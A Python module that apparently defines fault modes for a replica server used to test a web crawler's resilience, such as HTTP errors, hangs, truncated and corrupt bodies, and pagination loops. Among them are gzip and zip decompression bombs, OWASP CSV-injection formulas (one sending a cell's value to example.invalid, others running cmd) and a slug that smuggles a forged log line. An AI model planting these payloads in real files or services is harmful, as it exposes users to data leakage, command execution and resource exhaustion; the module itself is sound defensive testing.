"""Fault modes: the ways the replica misbehaves so the crawler's resilience can be tested.

A run chooses faults by spec, `NAME[:always][@RATE]`: 'http503' faults ~3% of the URLs it
applies to, 'http503:always@0.1' faults 10% and never lets the retry through. Which URLs a
fault picks is a pure function of (fault_seed, fault name, URL), so a run is repeatable and a
test can ask in advance which URLs will fail (`FaultPlan.owner`), and afterwards which did
(`FaultPlan.faulted`). The index page is faulted only by faults made for it ('forged-slug',
'duplicate-slug', 'redesign-index'), so every other run can start; robots.txt only by 'robots-503'.

Faults change the response the server was about to send (`Response`, see server.py); the
server carries out the wire-level ones (hang, truncate).
"""

from __future__ import annotations

import dataclasses
import functools
import gzip
import hashlib
import html
import io
import re
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import TYPE_CHECKING
from urllib.parse import quote

from harvester.replica import decision_faults, redesign

if TYPE_CHECKING:
    from harvester.replica.server import Response

DEFAULT_RATE = 0.03
GZIP_BOMB_INFLATED_BYTES = 256 * 1024 * 1024

HTML_KINDS = frozenset({"statistics", "letters", "reports", "improvements", "article", "decision", "listing"})
CONTENT_KINDS = HTML_KINDS | {"pdf"}
"""Resource kinds the server routes to; 'index' and 'robots' are deliberately absent."""
SINGLE_PAGES = frozenset({"index", "robots"})
"""Kinds of one page each: a fault made for one of them always hits it, whatever its rate."""


def _error_page(status: int, reason: str) -> bytes:
    return (
        f"<html><head><title>{reason}</title></head><body><h1>{status} {reason}</h1></body></html>".encode()
    )


def _status_fault(status: int, reason: str, headers: tuple[tuple[str, str], ...] = ()):
    def answer(response: Response, path: str, hang_seconds: float) -> Response:
        body = _error_page(status, reason)
        return dataclasses.replace(
            response, status=status, content_type="text/html; charset=utf-8", body=body, headers=headers,
            cacheable=False,
        )  # fmt: skip

    return answer


def _hang(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, hang_seconds=hang_seconds, cacheable=False)


def _truncated(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, body=response.body[: len(response.body) // 2], truncated=True,
                               cacheable=False)  # fmt: skip


def _malformed_html(response: Response, path: str, hang_seconds: float) -> Response:
    body = response.body
    for closing in (b"</div>", b"</li>", b"</section>", b"</ul>"):
        body = body.replace(closing, b"")
    garbage = b"\n<div class=x\xff\xfe\x9d<<span>\xc3\x28 &nbsp &#xZZ; <td>\n"
    body = body.replace(b"</h1>", b"</h1>" + garbage, 1).replace(b"<footer", garbage + b"<footer", 1)
    return dataclasses.replace(response, body=body)


def _corrupt_pdf(response: Response, path: str, hang_seconds: float) -> Response:
    """Alternates, per URL, between a PDF cut short and one with a scrambled middle."""
    body = response.body
    if _fraction(0, "corrupt-pdf-variant", path) < 0.5:
        return dataclasses.replace(response, body=body[: len(body) * 45 // 100])
    start = len(body) // 3
    scrambled = bytes(b ^ 0x5A for b in body[start : start + 4096])
    return dataclasses.replace(response, body=body[:start] + scrambled + body[start + 4096 :])


def _redirect_offsite(response: Response, path: str, hang_seconds: float) -> Response:
    location = f"http://example.invalid{path}"
    return dataclasses.replace(
        response, status=302, content_type="text/html; charset=utf-8",
        body=f'<html><body>Object moved to <a href="{location}">here</a>.</body></html>'.encode(),
        headers=(("Location", location),), cacheable=False,
    )  # fmt: skip


MAINTENANCE_PAGE = (
    b"<!DOCTYPE html><html><head><title>Site maintenance</title></head><body>"
    b"<h1>We are currently updating our website</h1><p>Please try again later.</p></body></html>"
)


def _maintenance(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, body=MAINTENANCE_PAGE, content_type="text/html; charset=utf-8")


def _no_letters_link(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(
        response, body=re.sub(rb"<a\b[^>]*>\s*View annual letters\s*</a>", b"", response.body)
    )


UNREADABLE_LIST = (
    b"<!DOCTYPE html><html><head><title>Reports</title></head><body><main>"
    b"<h1>Reports</h1><p>Something went wrong loading this list.</p></main></body></html>"
)


def _unreadable_list(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, body=UNREADABLE_LIST, content_type="text/html; charset=utf-8")


@functools.cache
def gzip_bomb() -> bytes:
    """A ~250 KB gzip stream that inflates to 256 MiB of zeros; built once, on first use."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(GZIP_BOMB_INFLATED_BYTES // len(chunk))]
    parts.append(compressor.flush())
    return b"".join(parts)


def _gzip_bomb(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, body=gzip_bomb(), content_encoding="gzip", cacheable=False)


def _pager_repeat(response: Response, path: str, hang_seconds: float) -> Response:
    """Page 2 onward of a service improvements list shows a case twice, as a list does whose pager shifted
    between two requests (a case agreed meanwhile pushes page 1's last case onto page 2)."""
    if "page=" not in path:
        return response
    start = response.body.find(b'<div class="improvement">')
    if start < 0:
        return response
    end = response.body.index(b"</div>", start) + len(b"</div>\n")
    case = response.body[start:end]
    return dataclasses.replace(response, body=response.body[:start] + case + response.body[start:])


def _unlinked_card(response: Response, path: str, hang_seconds: float) -> Response:
    """A decision listing's first card loses its link (heading kept as text): a card that can't be followed."""
    start = response.body.find(b'<div class="result">\n<h3><a href="')
    if start < 0:
        return response
    link_start = response.body.index(b"<a ", start)
    link_end = response.body.index(b">", link_start) + 1
    body = response.body[:link_start] + response.body[link_end:].replace(b"</a>", b"", 1)
    return dataclasses.replace(response, body=body)


def _nameless_card(response: Response, path: str, hang_seconds: float) -> Response:
    """A decision listing's first headed card loses its heading, link and all: a card the page doesn't name."""
    start = response.body.find(b'<div class="result">\n<h3>')
    if start < 0:
        return response
    heading_start = response.body.index(b"<h3>", start)
    heading_end = response.body.index(b"</h3>", heading_start) + len(b"</h3>\n")
    return dataclasses.replace(response, body=response.body[:heading_start] + response.body[heading_end:])


def _pdf_error_page(response: Response, path: str, hang_seconds: float) -> Response:
    """A server's HTML error page sent with the letter's 'Content-Type: application/pdf'."""
    return dataclasses.replace(response, body=_error_page(500, "Runtime Error"), cacheable=False)


@functools.cache
def encrypted_pdf() -> bytes:
    """A one-page PDF that needs a password to open, as a letter re-published with protection would."""
    import io

    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen.canvas import Canvas

    buffer = io.BytesIO()
    canvas = Canvas(buffer, invariant=1, encrypt=pdfencrypt.StandardEncryption("user secret", "owner secret"))
    canvas.drawString(72, 720, "Annual review letter")
    canvas.save()
    return buffer.getvalue()


def _encrypted_pdf(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, body=encrypted_pdf(), cacheable=False)


LIST_KINDS = frozenset({"letters", "reports", "improvements"})
GZIP_CUT_FRACTION = 0.45
LETTER_BOMB_BYTES = 40 * 1024 * 1024


def _gzip_cut(response: Response, path: str, hang_seconds: float, chunked: bool = False) -> Response:
    """The page gzip-compressed, then cut at ~45%: sent with a Content-Length of the cut bytes (or as a
    cleanly ended chunked body), so only the gzip stream itself shows it is incomplete."""
    compressed = gzip.compress(response.body, mtime=0)
    return dataclasses.replace(
        response, body=compressed[: int(len(compressed) * GZIP_CUT_FRACTION)], content_encoding="gzip",
        chunked=chunked, cacheable=False,
    )  # fmt: skip


def _wrong_charset(response: Response, path: str, hang_seconds: float) -> Response:
    """The page's text in windows-1252 bytes, still labelled 'charset=utf-8'."""
    return dataclasses.replace(response, body=response.body.decode("utf-8").encode("cp1252"))


@functools.cache
def letter_bomb() -> bytes:
    """40 MiB that start like a PDF: far more than any letter."""
    return b"%PDF-1.7\n%" + bytes(LETTER_BOMB_BYTES - 10)


def _letter_bomb(response: Response, path: str, hang_seconds: float) -> Response:
    # No Content-Length (sent, then the connection closed): the size shows only as the bytes arrive.
    return dataclasses.replace(response, body=letter_bomb(), truncated=True, cacheable=False)


def _letter_gzip_bomb(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, body=gzip_bomb(), content_encoding="gzip", cacheable=False)


FORMULAS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Read the report")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
"""Text that a spreadsheet opening a CSV runs as a formula (OWASP's CSV injection examples)."""


def _formula_text(response: Response, path: str, hang_seconds: float) -> Response:
    """Each report's title and summary begin with a spreadsheet formula, as text pasted into the site's
    editor could; the page is otherwise intact."""
    formulas = iter(FORMULAS * 64)

    def prefix(match: re.Match) -> bytes:
        return match.group(1) + html.escape(next(formulas)).encode() + b" " + match.group(2)

    body = re.sub(rb"(<h3><a [^>]*>)([^<])", prefix, response.body)
    body = re.sub(rb"(</p>\s*<p>)([^<])", prefix, body)
    return dataclasses.replace(response, body=body)


HUGE_CHAPTER_BYTES = 1_900_000
"""Text added to each chapter of a report: just under the 2 MiB a page may be, so every chapter is read and a
report of two or more chapters is a text of megabytes."""


def _huge_report(response: Response, path: str, hang_seconds: float) -> Response:
    """Each page of a report (its landing page and every chapter: a decision page with a chapter list) runs to
    ~1.9 MB of paragraphs."""
    if b'<aside class="chapters">' not in response.body:
        return response
    paragraph = "<p>The council's records of the case run to many pages, each of them read in full. </p>\n"
    padding = "".join(
        paragraph.replace("many", f"{n:,}") for n in range(HUGE_CHAPTER_BYTES // len(paragraph))
    )
    body = response.body.replace(b"</article>", padding.encode() + b"</article>", 1)
    return dataclasses.replace(response, body=body)


FORGED_LOG_LINE = "2026-01-01 00:00:00 [harvester] ERROR: forged by the site"
FORGED_SLUG = "luton-borough-council\n" + FORGED_LOG_LINE
"""A slug that, decoded and logged raw, ends its log line and writes one of its own."""


def _forged_slug(response: Response, path: str, hang_seconds: float) -> Response:
    """The index lists one more council, whose link's slug holds an encoded newline and a forged log line."""
    href = f"/your-councils-performance/{quote(FORGED_SLUG)}/statistics"
    link = f'<li><a href="{html.escape(href)}">Luton Borough Council</a></li>\n'.encode()
    return dataclasses.replace(response, body=response.body.replace(b"</ul>", link + b"</ul>", 1))


DUPLICATE_SLUG, DUPLICATED_SLUG = "luton-council", "luton-borough-council"
"""A second slug the site answers with Luton's own pages (its links still name Luton's slug)."""


def _duplicate_slug(response: Response, path: str, hang_seconds: float) -> Response:
    """The index lists Luton a second time, under a slug of its own that serves Luton's pages (FaultPlan.route)."""
    link = f'<li><a href="/your-councils-performance/{DUPLICATE_SLUG}/statistics">Luton Council</a></li>\n'
    return dataclasses.replace(response, body=response.body.replace(b"</ul>", link.encode() + b"</ul>", 1))


OVER_LIMIT_PAGE_BYTES = 5 * 1024 * 1024


def _page_over_limit(response: Response, path: str, hang_seconds: float) -> Response:
    """The page with 5 MiB of hex digits before its end: over the 2 MiB a page may be, gzip-compressed too."""
    digest = hashlib.sha256(path.encode()).digest()
    blocks = []
    for _ in range(OVER_LIMIT_PAGE_BYTES // 64):
        digest = hashlib.sha256(digest).digest()
        blocks.append(digest.hex())
    padding = f'<p class="appendix">{"".join(blocks)}</p>'.encode()
    # Before </body>: every decision template ends there, not all of them in an <article>.
    return dataclasses.replace(response, body=response.body.replace(b"</body>", padding + b"</body>", 1))


def _duplicated_council_page(target: str) -> str | None:
    """A council page asked for under the duplicate slug is answered with the duplicated council's."""
    prefix = f"/your-councils-performance/{DUPLICATE_SLUG}/"
    if target.lower().startswith(prefix):
        return f"/your-councils-performance/{DUPLICATED_SLUG}/" + target[len(prefix) :]
    return None


def _datafile_error_page(response: Response, path: str, hang_seconds: float) -> Response:
    """A data file answering 200 with an HTML error page: not the CSV or XLSX its name says."""
    body = b"<!DOCTYPE html><html><body><h1>Sorry, something went wrong</h1></body></html>"
    return dataclasses.replace(response, body=body, content_type="text/html; charset=utf-8", cacheable=False)


@functools.cache
def xlsx_zip_bomb() -> bytes:
    """~80 KB of zip whose worksheet inflates to 80 MiB of zeros: the reader must refuse it unopened."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", bytes(80 * 1024 * 1024))
    return out.getvalue()


def _datafile_zip_bomb(response: Response, path: str, hang_seconds: float) -> Response:
    return dataclasses.replace(response, body=xlsx_zip_bomb(), cacheable=False)


@dataclass(frozen=True)
class Fault:
    name: str
    description: str
    kinds: frozenset[str]
    """Resource kinds the fault can hit."""
    transient: bool
    """True: by default only the first request to a chosen URL fails; ':always' makes it persist."""
    apply: Callable[[Response, str, float], Response]
    route: Callable[[str], str | None] | None = None
    """For a fault serving pages at URLs the replica lacks: the request target the replica renders instead, or
    None for a target the fault leaves alone."""
    key: Callable[[str], str] | None = None
    """The URL key a fault's draw is made on, when a page picked must bring others with it (every page of a
    listing); a fault with a route and no key routes every target its route takes."""


FAULTS: dict[str, Fault] = {
    fault.name: fault
    for fault in (
        Fault("http500", "answers 500 Internal Server Error; the retry succeeds (':always': it never does).",
              CONTENT_KINDS, True, _status_fault(500, "Server Error in '/' Application.")),
        Fault("http503", "answers 503 Service Unavailable; the retry succeeds (':always': it never does).",
              CONTENT_KINDS, True, _status_fault(503, "Service Unavailable")),
        Fault("http429", "answers 429 Too Many Requests with 'Retry-After: 1'; the retry succeeds.",
              CONTENT_KINDS, True, _status_fault(429, "Too Many Requests", (("Retry-After", "1"),))),
        Fault("hang", "accepts the request, sends nothing for --hang-seconds (default 30), then closes the "
              "connection; the retry succeeds.", CONTENT_KINDS, True, _hang),
        Fault("truncated", "sends no Content-Length and only the first half of the body, then closes the "
              "connection; the retry gets the whole body.", CONTENT_KINDS, True, _truncated),
        Fault("malformed-html", "HTML pages with unclosed tags and invalid bytes; the statistics wording is "
              "intact, so a tolerant parser still reads every figure.", HTML_KINDS, False, _malformed_html),
        Fault("corrupt-pdf", "letter PDFs cut short or with scrambled bytes, still starting '%PDF-'.",
              frozenset({"pdf"}), False, _corrupt_pdf),
        Fault("redirect-offsite", "302 redirect to http://example.invalid/..., a host a crawl must not "
              "follow.",
              CONTENT_KINDS, False, _redirect_offsite),
        Fault("gzip-bomb", "a ~250 KB body with 'Content-Encoding: gzip' that inflates to 256 MiB of zeros.",
              HTML_KINDS, False, _gzip_bomb),
        Fault("maintenance", "statistics pages answer 200 with a maintenance notice instead of the figures.",
              frozenset({"statistics"}), False, _maintenance),
        Fault("no-letters-link", "statistics pages lose their 'View annual letters' link (the section's wording stays).",
              frozenset({"statistics"}), False, _no_letters_link),
        Fault("unreadable-reports", "reports list pages answer 200 with neither reports nor a statement that there "
              "are none.", frozenset({"reports"}), False, _unreadable_list),
        Fault("robots-503", "robots.txt answers 503 Service Unavailable, every time.",
              frozenset({"robots"}), False, _status_fault(503, "Service Unavailable")),
        Fault("pager-repeat", "service improvements list pages after the first show their first case twice, "
              "as a pager shifted by a case agreed between two requests does.",
              frozenset({"improvements"}), False, _pager_repeat),
        Fault("unlinked-card", "decision listing and search pages print their first card's heading without its "
              "link.", frozenset({"listing"}), False, _unlinked_card),
        Fault("nameless-card", "decision listing and search pages print their first headed card without its "
              "heading (and so without its link): a card that names no case.",
              frozenset({"listing"}), False, _nameless_card),
        Fault("pdf-error-page", "letter PDFs answer 200 'application/pdf' with an HTML error page as the body.",
              frozenset({"pdf"}), False, _pdf_error_page),
        Fault("pdf-encrypted", "letter PDFs are replaced by a password-protected PDF.",
              frozenset({"pdf"}), False, _encrypted_pdf),
        Fault("statistics-gone", "statistics pages answer 410 Gone, as for a council the site has removed.",
              frozenset({"statistics"}), False, _status_fault(410, "Gone")),
        Fault("gzip-cut", "list pages gzip-compressed, then cut at ~45% with a Content-Length of the cut "
              "bytes; the retry gets the whole page (':always': it never does).",
              LIST_KINDS, True, _gzip_cut),
        Fault("gzip-cut-chunked", "as gzip-cut, sent as a chunked body that ends cleanly.",
              LIST_KINDS, True, functools.partial(_gzip_cut, chunked=True)),
        Fault("wrong-charset", "HTML pages in windows-1252 bytes labelled 'charset=utf-8'.",
              HTML_KINDS, False, _wrong_charset),
        Fault("letter-bomb", "letter PDFs answer 40 MiB with no Content-Length, then close.",
              frozenset({"pdf"}), False, _letter_bomb),
        Fault("formula-text", "reports list pages whose titles and summaries begin with spreadsheet formulas "
              "(=HYPERLINK(...), @SUM(...), +cmd|...).", frozenset({"reports"}), False, _formula_text),
        Fault("huge-report", "every chapter of a report (a decision page with chapter links) runs to ~1.9 MB, so a "
              "report's text is megabytes: over what Datasette serves from five chapters on.",
              frozenset({"decision"}), False, _huge_report),
        Fault("forged-slug", "the index lists a council whose slug holds an encoded newline and a forged log "
              "line (luton-borough-council%0A2026-01-01 00:00:00 [harvester] ERROR: ...).",
              frozenset({"index"}), False, _forged_slug),
        Fault("duplicate-slug", f"the index also lists {DUPLICATE_SLUG}, a slug the site answers with Luton's own "
              "pages.", frozenset({"index"}), False, _duplicate_slug, route=_duplicated_council_page),
        Fault("decision-over-limit", "decision pages run to over 5 MiB (an appendix of hex digits), past the 2 MiB "
              "a page may be, every time they are asked for.", frozenset({"decision"}), False, _page_over_limit),
        Fault("letter-gzip-bomb", "letter PDFs answer the gzip bomb (~250 KB inflating to 256 MiB).",
              frozenset({"pdf"}), False, _letter_gzip_bomb),
        Fault("endless-listing", "decision listing and search pages link a 'Next' page up to page 10,000, each "
              "showing the first page's cards.", frozenset({"listing"}), False, decision_faults.endless_listing,
              route=decision_faults.endless_listing_route, key=decision_faults.without_page),
        Fault("listing-next-loop", "a decision listing's last page links 'Next' back to its first page, spelled "
              "another way (capitals, trailing slash, query reordered).", frozenset({"listing"}), False,
              decision_faults.listing_next_loop),
        Fault("other-council-decision", "decision pages print Kent County Council (on Kent's own, Surrey County "
              "Council) as the body.", frozenset({"decision"}), False, decision_faults.other_council),
        Fault("case-at-two-urls", "upheld listings link their remedied statements under a second URL whose page "
              "says 'Not upheld'; the satisfactory remedy listing links the case's own.",
              frozenset({"listing", "decision"}), False, decision_faults.case_at_two_urls,
              route=decision_faults.recategorised_route),
        Fault("long-report", "public reports link 1,000 chapters.", frozenset({"decision"}), False,
              decision_faults.long_report, route=decision_faults.long_report_route,
              key=lambda path: path.partition("?")[0]),
        Fault("datafile-error-page", "annual data files (CSV, XLSX) answer 200 with an HTML error page.",
              frozenset({"datafile"}), False, _datafile_error_page),
        Fault("datafile-zip-bomb", "annual data files answer an ~80 KB zip whose worksheet inflates to 80 MiB.",
              frozenset({"datafile"}), False, _datafile_zip_bomb),
    )
}  # fmt: skip
FAULTS |= {
    redesign.PREFIX + kind: Fault(redesign.PREFIX + kind, description, frozenset({kind}), False, apply)
    for kind, description, apply in redesign.REDESIGNS
}


def describe_faults() -> dict[str, str]:
    """Fault name -> what it does, for --help."""
    return {name: fault.description for name, fault in FAULTS.items()}


@dataclass(frozen=True)
class FaultSpec:
    fault: Fault
    always: bool
    rate: float

    @classmethod
    def parse(cls, spec: str) -> FaultSpec:
        """'http503', 'http503:always', 'hang@0.5', 'http500:always@1'."""
        text, _, rate_text = spec.partition("@")
        name, _, modifier = text.partition(":")
        if name not in FAULTS:
            raise ValueError(f"unknown fault {name!r} in {spec!r}; known: {', '.join(FAULTS)}")
        fault = FAULTS[name]
        if modifier not in ("", "always"):
            raise ValueError(f"fault {spec!r}: the only modifier is ':always'")
        if modifier and not fault.transient:
            raise ValueError(f"fault {spec!r}: {name} is not transient, so ':always' means nothing")
        rate = float(rate_text) if rate_text else DEFAULT_RATE
        if not 0 < rate <= 1:
            raise ValueError(f"fault {spec!r}: rate must be in (0, 1]")
        if fault.kinds <= SINGLE_PAGES or name.startswith(redesign.PREFIX):
            rate = 1.0  # one page each, or (a redesign) the whole site's wording
        return cls(fault=fault, always=bool(modifier) or not fault.transient, rate=rate)


def _fraction(seed: int, name: str, path: str) -> float:
    """A stable number in [0, 1) for (seed, fault, URL): the seeded draw that picks URLs."""
    digest = hashlib.sha256(f"{seed}|{name}|{path}".encode()).digest()
    return int.from_bytes(digest[:8], "big") / 2**64


class FaultPlan:
    """The faults of one run and the bookkeeping of which URLs they hit.

    URL keys are the server's normalised request targets (lower-case path without trailing
    slash, then the query string as sent)."""

    def __init__(self, specs: Iterable[str] = (), seed: int = 0, hang_seconds: float = 30.0):
        self.specs = tuple(FaultSpec.parse(spec) for spec in specs)
        self.seed = seed
        self.hang_seconds = hang_seconds
        self._lock = threading.Lock()
        self._hits: dict[tuple[str, str], int] = {}
        self._faulted: list[tuple[str, str]] = []

    def owner(self, path: str, kind: str) -> FaultSpec | None:
        """The fault that owns this URL (the first listed that picks it), whether or not it has fired yet."""
        for spec in self.specs:
            if kind in spec.fault.kinds and self._picks(spec, path):
                return spec
        return None

    def _picks(self, spec: FaultSpec, path: str) -> bool:
        key = spec.fault.key(path) if spec.fault.key else path
        return _fraction(self.seed, spec.fault.name, key) < spec.rate

    def route(self, target: str, path: str) -> str:
        """The request target the replica renders for `target` (its normalised key `path`): itself unless a
        fault of the run serves it from another."""
        for spec in self.specs:
            rendered = spec.fault.route(target) if spec.fault.route else None
            if rendered is not None and (spec.fault.key is None or self._picks(spec, path)):
                return rendered
        return target

    def apply(self, response: Response, path: str, kind: str) -> Response:
        spec = self.owner(path, kind)
        if spec is None:
            return response
        with self._lock:
            key = (spec.fault.name, path)
            self._hits[key] = self._hits.get(key, 0) + 1
            if not spec.always and self._hits[key] > 1:
                return response
            self._faulted.append(key)
        return spec.fault.apply(response, path, self.hang_seconds)

    @property
    def faulted(self) -> list[tuple[str, str]]:
        """(fault name, URL key) for every response that was faulted, in order."""
        with self._lock:
            return list(self._faulted)
